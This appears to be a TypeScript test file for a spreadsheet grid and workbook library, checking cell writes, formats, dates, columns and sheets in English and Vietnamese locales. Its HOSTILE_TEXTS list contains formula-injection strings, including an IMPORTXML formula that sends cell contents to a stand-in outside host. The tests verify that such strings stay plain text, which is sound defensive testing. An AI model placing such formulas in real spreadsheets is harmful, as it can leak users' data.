import type { CellValue, Grid } from '../../src/sheet/table';
import { MissingSheetError, type ReportShape } from '../../src/sheet/workbook';
import { columnShape } from '../support/column-shape';
import { EmulatedSpreadsheet } from '../support/emulated-spreadsheet';

const DATE = 'dd/mm/yyyy hh:mm:ss';
const NOON = { year: 2026, month: 9, day: 5, hour: 12, minute: 30, second: 59 };

/** Adds a sheet with a column for each format. */
function table(subject: EmulatedSpreadsheet, formats: readonly string[] = ['@', '#,##0.##', DATE]): Grid {
  const columns = formats.map((format, index) => columnShape(`f${index + 1}`, { format }));
  return subject.workbook.addSheet({ title: 'Products', tag: 'products', columns });
}

/** The cells of some columns from one row on. */
const area = (row: number, rows: number, columns: number) => ({ row, column: 1, rows, columns });

/** Texts that a sheet would turn into something else if they were written as they are. */
const HOSTILE_TEXTS = [
  ...['=1+1', '=IMPORTXML("https://example.invalid/?"&A1,"//a")', '=HYPERLINK("https://example.invalid","x")'],
  ...['+1+1', '+84901234567', '-5', '-', '@SUM(A1)', '00123', '0', '1.250.000', '1,5', '12%', '1/2', '5/9/2026'],
  ...['2026-10-02', '07:00', '1e5', '12345678901234567890', 'TRUE', 'false', '#N/A', '#REF!', "'x", "''", "'=1+1"],
  ...[' blank before and after ', 'two\nlines', 'tab\tbetween', '{1,2}', '₫1,000', 'Điện tử › Điện thoại'],
  ...['😀 👩‍👩‍👧', 'nul\u0000inside', 'x'.repeat(49_999), 'x'.repeat(50_000)],
];

const VIETNAM = { locale: 'vi_VN', timeZone: 'Asia/Ho_Chi_Minh' };

describe.each([
  ['in English', {}],
  ['in Vietnamese', VIETNAM],
])('what is written %s', (_, options) => {
  const make = () => new EmulatedSpreadsheet(options);

  test.each(['@', '#,##0.##', DATE])(
    'stays what it was where it is a hostile text in a column of format %s',
    (format) => {
      const subject = make();
      const grid = table(subject, [format]);
      const cells = area(2, HOSTILE_TEXTS.length, 1);
      const texts = HOSTILE_TEXTS.map((text) => [text]);
      for (const written of [texts, grid.read(cells)]) {
        grid.write(cells, written === texts ? texts : grid.read(cells));
        subject.workbook.flush();
        expect(grid.read(cells)).toEqual(texts);
      }
      expect(subject.formulas(grid.sheetId)).toEqual([]);
    },
  );

  test('stays a number or a truth value', () => {
    const grid = table(make(), ['', '']);
    const values = [
      [0, -1250000],
      [0.1, 1e15],
      [true, false],
    ];
    grid.write(area(2, 3, 2), values);
    expect(grid.read(area(2, 3, 2))).toEqual(values);
  });

  test.each([
    ['midnight', { ...NOON, hour: 0, minute: 0, second: 0 }],
    ['the last second of a year', { year: 2025, month: 12, day: 31, hour: 23, minute: 59, second: 59 }],
    ['a summer night', { year: 2026, month: 3, day: 29, hour: 1, minute: 59, second: 59 }],
    ['a day long ago', { year: 1985, month: 2, day: 28, hour: 3, minute: 0, second: 1 }],
  ])('stays the time of %s to the second in a date column', (_name, time) => {
    const grid = table(make(), [DATE]);
    grid.write(area(2, 1, 1), [[time]]);
    expect(grid.read(area(2, 1, 1))).toEqual([[time]]);
  });

  test('is shown as the cells show it', () => {
    const grid = table(make(), ['', '@']);
    const values = [
      [12, '007'],
      [true, ''],
    ];
    grid.write(area(2, 2, 2), values);
    expect(grid.shown(area(2, 2, 2))).toEqual([
      ['12', '007'],
      ['TRUE', ''],
    ]);
  });
});

describe('a block', () => {
  test('is written into its cells and no cell beside it, and empties cells', () => {
    const grid = table(new EmulatedSpreadsheet(), ['@', '@']);
    grid.write(area(2, 2, 2), Array(2).fill(['a', 'a']));
    grid.write({ row: 3, column: 2, rows: 1, columns: 1 }, [['b']]);
    expect(grid.read(area(2, 2, 2)).flat()).toEqual(['a', 'a', 'a', 'b']);
    grid.write(area(2, 2, 2), Array(2).fill(['', '']));
    expect(grid.lastRow()).toBe(1);
  });

  test.each<[string, CellValue[][]]>([
    ['too few rows', [['a', 'b']]],
    ['too many columns', Array(2).fill(['a', 'b', 'c'])],
  ])('of %s is refused, and so is a text that no cell can hold', (_, values) => {
    const grid = table(new EmulatedSpreadsheet());
    expect(() => grid.write(area(2, 2, 2), values)).toThrow(/does(n't| not) match/);
    expect(() => grid.write(area(2, 1, 1), [['x'.repeat(50_001)]])).toThrow('50000 characters');
  });

  test('beyond the sheet makes it grow, down with the formats of its columns and one row more, and to the right', () => {
    const grid = table(new EmulatedSpreadsheet());
    const line: CellValue[] = ['00123', 1.5, NOON];
    grid.write(area(990, 500, 3), Array(500).fill(line));
    expect([grid.lastRow(), grid.read(area(1489, 1, 3))]).toEqual([1489, [line]]);
    expect([grid.height() > 1489, grid.read(area(grid.height(), 1, 1))]).toEqual([true, [['']]]);
    grid.write({ row: 1, column: 40, rows: 1, columns: 1 }, [['far']]);
    expect(grid.headers()[39]).toBe('far');
  });
});

describe('the columns of a grid', () => {
  test('are read from the first to the last that is wanted, to the last row', () => {
    const grid = table(new EmulatedSpreadsheet(), ['@', '@', '@']);
    grid.write(area(2, 2, 3), [
      ['a', 'b', 'c'],
      ['', '', 'd'],
    ]);
    const wanted = [
      ['f2', 'f3'],
      ['b', 'c'],
      ['', 'd'],
    ];
    expect(grid.readTagged((tag) => tag !== 'f1')).toMatchObject({ firstColumn: 2, values: wanted });
    grid.write(area(2, 1, 1), [['e']]);
    expect(grid.readTagged().values[1]).toEqual(['e', 'b', 'c']);
    expect(grid.readTagged().tags).toHaveLength(3);
  });

  test('are found where they are, also after one was added between them or behind the last, or tagged', () => {
    const grid = table(new EmulatedSpreadsheet(), ['@', '@']);
    grid.write(area(2, 1, 2), [['a', 'b']]);
    grid.readTagged();
    grid.addColumn(2, columnShape('custom:Colour', { header: 'Colour', note: 'yours' }));
    expect(grid.read(area(1, 2, 3))).toEqual([
      ['f1', 'Colour', 'f2'],
      ['a', '', 'b'],
    ]);
    grid.write({ row: 1, column: 4, rows: 1, columns: 1 }, [['own']]);
    grid.readTagged();
    grid.tagColumn(4, 'custom:own');
    grid.addColumn(30, columnShape('last', { format: DATE }));
    const tags = [...grid.columnTags()]
      .sort((a, b) => a.column - b.column)
      .map(({ column, tag }) => `${column} ${tag}`);
    expect(tags).toEqual(['1 f1', '2 custom:Colour', '3 f2', '4 custom:own', '30 last']);
    expect(grid.readTagged((tag) => tag !== 'last').values[0]).toEqual(['f1', 'Colour', 'f2', 'own']);
  });

  test('become text from the second row down, values and formulas stay what they are, but for rows that keep their format', () => {
    const grid = table(new EmulatedSpreadsheet(), [DATE, '']);
    const dates = [NOON, NOON, 'x', NOON];
    const others = [2026, 'b', '', 1];
    grid.write(
      area(2, 4, 2),
      dates.map((date, line) => [date, others[line] ?? '']),
    );
    grid.formatColumn(1, '@', new Set([2, 5]));
    grid.formatColumn(2, '@');
    grid.flush();
    const read = grid.read(area(2, 4, 2));
    expect(read.map(([date]) => date)).toEqual([NOON, expect.closeTo(46270.521516), 'x', NOON]);
    expect(read.map(([, other]) => other)).toEqual(others);
    expect(grid.formulas(area(2, 4, 2)).flat()).toEqual(Array(8).fill(null));
  });

  test('are hidden as their shape says, and shown again', () => {
    const { workbook } = new EmulatedSpreadsheet();
    const columns = ['a', 'b', 'c', 'd'].map((tag) => columnShape(tag, { hidden: tag === 'b' || tag === 'c' }));
    const grid = workbook.addSheet({ title: 'Opportunities', tag: 'opportunities', columns });
    expect([...grid.hidden([1, 2, 3, 4])]).toEqual([2, 3]);
    grid.hideColumns(2, 2, false);
    grid.hideColumns(4, 1, true);
    expect([...grid.hidden([1, 2, 3, 4])]).toEqual([4]);
  });

  test('take a note on their header, and offer the values of another sheet without refusing others', () => {
    const subject = new EmulatedSpreadsheet();
    const choices = { sheetId: table(subject).sheetId, column: 1, columns: 1 };
    const columns = [columnShape('category', { choices })];
    const grid = subject.workbook.addSheet({ title: 'Edited', tag: 'products', columns });
    grid.write(area(2, 1, 1), [['not among them']]);
    grid.writeNotes(area(1, 1, 1), [['Refreshed\n12 new']]);
    subject.workbook.flush();
    expect(grid.read(area(1, 2, 1))).toEqual([['category'], ['not among them']]);
    expect(grid.notes(area(1, 2, 1))).toEqual([['Refreshed\n12 new'], ['']]);
  });
});

test('single cells, far apart and side by side, are tinted and filled, and no others', () => {
  const grid = table(new EmulatedSpreadsheet(), ['@', '']);
  const block = area(2, 6, 2);
  grid.write(block, Array(6).fill(['x', 1]));
  const cells = [2, 3, 7].map((row) => ({ row, column: 1 }));
  const tinted = () => grid.colours(block).map((line) => line.map((colour) => Number(colour !== null)).join(''));
  grid.tint([...cells, { row: 5, column: 2 }], '#fff2cc');
  grid.fill(cells, '=1+1');
  grid.reveal(2);
  expect(tinted()).toEqual(['10', '10', '00', '01', '00', '10']);
  grid.tint(cells, null);
  expect(tinted()).toEqual(['00', '00', '00', '01', '00', '00']);
  expect(grid.read(block).map(([first]) => first)).toEqual(['=1+1', '=1+1', 'x', 'x', 'x', '=1+1']);
  expect(grid.formulas(block).flat()).toEqual(Array(12).fill(null));
});

test('whole rows are deleted, and what stood below moves up', () => {
  const grid = table(new EmulatedSpreadsheet(), ['@']);
  grid.write(
    area(2, 4, 2),
    ['a', 'b', 'c', 'd'].map((name) => [name, `own ${name}`]),
  );
  grid.deleteRows(3, 2);
  expect(grid.lastRow()).toBe(3);
  expect(grid.read(area(2, 2, 2)).flat()).toEqual(['a', 'own a', 'd', 'own d']);
});

const reportOver = (sheetId: number): ReportShape => ({
  title: 'Report',
  tag: 'report',
  source: { sheetId, columns: 3, key: 1, mark: null },
  count: 'Count',
  none: '(none)',
  texts: [{ row: 1, column: 1, text: '=1+1', quiet: true }],
  headerRow: 3,
  widths: [120, 80],
  pivots: [{ row: 3, column: 1, rows: [{ column: 1, name: null }], columns: [], totals: true }],
  charts: [],
});

describe('the sheets of a workbook', () => {
  test('are listed by their tags in tab order; a tag is put in place of the old one, or on a sheet without', () => {
    const subject = new EmulatedSpreadsheet();
    subject.addPlain('Notes');
    subject.workbook.retag(subject.addPlain('Pasted'), 'orders');
    const { sheetId } = table(subject);
    subject.workbook.addSheet({ title: 'Journal', tag: 'journal', columns: [] });
    const tags = () => subject.workbook.taggedSheets().map(({ tag }) => tag);
    expect(tags()).toEqual(['orders', 'products', 'journal']);
    subject.workbook.retag(sheetId, 'opportunities:2');
    expect(tags()).toEqual(['orders', 'opportunities:2', 'journal']);
  });

  test('get another title when their own is taken, a report over one too', () => {
    const subject = new EmulatedSpreadsheet();
    subject.addPlain('Products');
    subject.addPlain('Report');
    const [first, second] = [table(subject), table(subject)];
    const report = subject.workbook.addReport(reportOver(first.sheetId));
    expect([first, second, report].map((grid) => grid.title())).toEqual(['Products 2', 'Products 3', 'Report 2']);
    expect(subject.workbook.taggedSheets().at(-1)).toEqual({ sheetId: report.sheetId, tag: 'report' });
  });

  test('throw MissingSheetError for an ID that none has, and make no report over it', () => {
    const { workbook } = new EmulatedSpreadsheet();
    expect(() => workbook.grid(987654)).toThrow(MissingSheetError);
    expect(() => workbook.addReport(reportOver(987654))).toThrow(MissingSheetError);
    expect(workbook.taggedSheets()).toEqual([]);
  });

  test('are refused without room for them, and none is made', () => {
    const subject = new EmulatedSpreadsheet();
    subject.fill();
    expect(() => table(subject)).toThrow();
    expect(subject.workbook.taggedSheets()).toEqual([]);
  });

  test('are told apart by being shown and filled', () => {
    const subject = new EmulatedSpreadsheet();
    const shape = { tag: 'products', columns: [columnShape('a')] };
    const { sheetId } = subject.workbook.addSheet({ ...shape, title: 'Shown' });
    subject.workbook.addSheet({ ...shape, title: 'Hidden', hidden: true });
    subject.addPlain('Empty');
    expect(subject.workbook.filledTabs()).toEqual([{ sheetId, title: 'Shown' }]);
  });

  test('tell what the user has selected, and the language of their file', () => {
    const subject = new EmulatedSpreadsheet(VIETNAM);
    const selected = { sheetId: subject.addPlain('Prices'), row: 3, column: 2, rows: 4, columns: 1 };
    const { sheetId, ...cells } = selected;
    subject.edit({ kind: 'select', sheetId, area: cells });
    expect([subject.workbook.selection(), subject.workbook.locale()]).toEqual([selected, 'vi_VN']);
  });
});
